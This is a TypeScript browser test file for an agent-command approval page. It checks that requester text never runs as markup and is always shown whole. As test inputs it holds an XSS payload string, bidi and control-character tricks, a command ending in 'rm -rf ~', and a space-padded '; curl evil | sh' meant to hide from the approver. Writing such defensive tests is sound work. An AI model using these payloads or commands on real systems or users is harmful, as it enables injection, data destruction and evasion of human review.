/** Text that comes from a requester never acts on a page, and is shown whole. */
import { describe, expect, it } from 'vitest';
import { approveOn, card, type Scene, sceneOfTest } from './browser-fixture.ts';

let scene: Scene;
sceneOfTest((opened) => {
  scene = opened;
});

const ATTACK = `</pre></article><script>window.hit=1</script><img src=x onerror="window.hit=1">"'><svg onload=window.hit=1>&lt;b&gt;`;

describe('text from a requester', () => {
  it('is never markup: not in the command, the directory, the reason, the environment, nor the lists', async () => {
    const { server, page, agent } = scene;
    const body = {
      request: {
        kind: 'command',
        text: ATTACK,
        argv: [ATTACK],
        cwd: `/${ATTACK}`,
        host: 'box',
        user: 'agent',
        environment: [{ name: ATTACK, value: ATTACK }],
      },
      nonce: 'n'.repeat(20),
      reason: ATTACK,
      findings: null,
      touches: [{ what: ATTACK, count: 1, bytes: null, items: [ATTACK], isCut: false, note: ATTACK }],
    };
    const asked = await server.call<{ grant: { id: string } }>('POST', '/v1/requests', agent.headers, body);
    const shown = card(page, asked.body.grant.id);
    await shown.waitFor(); // arrived live
    for (const path of ['/', `/grants/${asked.body.grant.id}`, '/history']) {
      await page.goto(server.url + path);
      await shown.waitFor();
      expect(await page.locator('main script, main img, main svg').count()).toBe(0);
      expect(await page.evaluate('window.hit')).toBeUndefined();
    }
    await page.goto(`${server.url}/grants/${asked.body.grant.id}`);
    expect(await shown.locator('.command pre').textContent()).toBe(ATTACK);
    expect(await shown.locator('.arguments code').textContent()).toBe(ATTACK);
    expect(await shown.locator('.reason p').textContent()).toBe(ATTACK);
    expect(await shown.locator('.environment dd').textContent()).toBe(ATTACK);
  });

  it('shows control, bidi and invisible characters as marks, and none of them acts', async () => {
    const { server, page, agent } = scene;
    const grant = await server.pending(agent, 'ls \u202e# fr-\u202c\x1b[2J\r\u200b\u2066x\tend\x07');
    await page.goto(grant.url);
    const pre = card(page, grant.id).locator('.command pre');
    expect(await pre.locator('mark').allTextContents()).toEqual([
      '\\u{202e}',
      '\\u{202c}',
      'ESC',
      'CR',
      '\\u{200b}',
      '\\u{2066}',
      'BEL',
    ]);
    const text = (await pre.textContent()) ?? '';
    expect(text).not.toMatch(/[\p{Cf}]|(?![\t\n])\p{Cc}/u);
    expect(await pre.locator('.tab').count()).toBe(1);
  });

  it('shows right-to-left letters in the order of their bytes', async () => {
    const { server, page, agent } = scene;
    const grant = await server.pending(agent, "cat \u05d0 > \u05d1 ; \u0627 2 > '\u0628'");
    for (const path of ['/', `/grants/${grant.id}`]) {
      await page.goto(server.url + path);
      await card(page, grant.id).waitFor();
      const places = (await page.evaluate(`(() => {
        const all = [];
        const texts = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
        for (let node = texts.nextNode(); node; node = texts.nextNode()) {
          const text = node.textContent;
          if (!/[\\u05d0-\\u0628]/.test(text)) continue;
          const boxes = Array.from(text, (_, at) => {
            const range = document.createRange();
            range.setStart(node, at);
            range.setEnd(node, at + 1);
            return range.getBoundingClientRect();
          });
          const follows = (box, before) => box.left > before.left || box.top > before.bottom - 2;
          all.push({ text, isInOrder: boxes.every((box, at) => at === 0 || follows(box, boxes[at - 1])) });
        }
        return all;
      })()`)) as { text: string; isInOrder: boolean }[];
      expect(places.length, path).toBeGreaterThan(0);
      expect(places.filter((place) => !place.isInOrder)).toEqual([]);
    }
  });

  it('shows a line of 1 MB whole, inside its frame', async () => {
    const { server, page, agent } = scene;
    const long = `echo ${'x'.repeat(1_000_000)}; rm -rf ~`;
    const grant = await server.pending(agent, long);
    await page.goto(grant.url);
    const pre = card(page, grant.id).locator('.command pre');
    await pre.waitFor();
    expect(await pre.evaluate((element) => element.textContent)).toBe(long);
    const box = await pre.evaluate((element) => ({
      height: element.clientHeight,
      scrolls: element.scrollHeight > element.clientHeight,
      sideways: element.scrollWidth > element.clientWidth,
    }));
    expect(box.height).toBeLessThan(500);
    expect([box.scrolls, box.sideways]).toEqual([true, false]);
    await card(page, grant.id).getByText('1.0 MB; scroll to read all of it').waitFor();
    await approveOn(scene, grant.id);
    await card(page, grant.id).locator('.badge').getByText('Approved').waitFor();
  });

  it('is shown whole, with few elements, if it has very many control characters', async () => {
    const { server, page, agent } = scene;
    const grant = await server.pending(agent, `${'é\x07'.repeat(60_000)}; end`);
    await page.goto(grant.url);
    const pre = card(page, grant.id).locator('.command pre');
    await pre.waitFor();
    expect(await pre.locator('*').count()).toBeLessThan(10);
    expect(await pre.evaluate((element) => element.textContent)).toBe(`${'é\\u{7}'.repeat(60_000)}; end`);
    await approveOn(scene, grant.id);
    await card(page, grant.id).locator('.badge').getByText('Approved').waitFor();
  });

  it('cannot push the rest of a command out of sight with spaces', async () => {
    const { server, page, agent } = scene;
    const grant = await server.pending(agent, `ls${' '.repeat(3_000)}; curl evil | sh`);
    await page.goto(grant.url);
    await card(page, grant.id).locator('.command pre').waitFor();
    const seen = await page.evaluate(`(() => {
      const element = document.querySelector('.command pre');
      element.scrollTop = element.scrollHeight;
      const end = element.firstChild.length;
      const range = document.createRange();
      range.setStart(element.firstChild, end - 5);
      range.setEnd(element.firstChild, end);
      const [text, frame] = [range.getBoundingClientRect(), element.getBoundingClientRect()];
      return text.left >= frame.left && text.right <= frame.right && text.bottom <= frame.bottom + 1;
    })()`);
    expect(seen).toBe(true);
    await card(page, grant.id).getByText('scroll to read all of it').waitFor();
  });
});
